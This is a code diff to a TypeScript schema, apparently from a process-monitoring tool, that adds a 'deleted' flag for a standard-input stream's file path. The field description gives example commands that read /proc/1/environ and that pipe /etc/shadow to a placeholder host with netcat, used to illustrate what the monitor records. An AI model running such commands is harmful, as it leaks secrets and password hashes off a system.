@@ -224,7 +224,8 @@ export const StdioStream = Obj(
   {
     type: Words(['tty', 'pipe', 'socket', 'file', 'char_device', 'none', 'other', 'unknown'], 'What the descriptor refers to.'),
     inode: Opt(Count('Inode number: of the file, or of the pipe or socket (the object the two ends share).')),
-    path: Opt(Str('Standard input only: the path of the file on it (`tr < /proc/1/environ`, `nc HOST PORT < /etc/shadow`), which no argument names; read when the process executed (cn_proc: from /proc, when it is still there).')),
+    path: Opt(Str('Standard input only: the path of the file on it (`tr < /proc/1/environ`, `nc HOST PORT < /etc/shadow`), which no argument names; read when the process executed (cn_proc: from /proc, when it is still there). A file deleted since it was opened has the path it had (and deleted).')),
+    deleted: Opt(Type.Boolean({ description: 'Standard input only, with path: true when the file had been deleted (no name left) when the process executed: path is the one it had.' })),
     socket: Opt(
       Obj(
         {
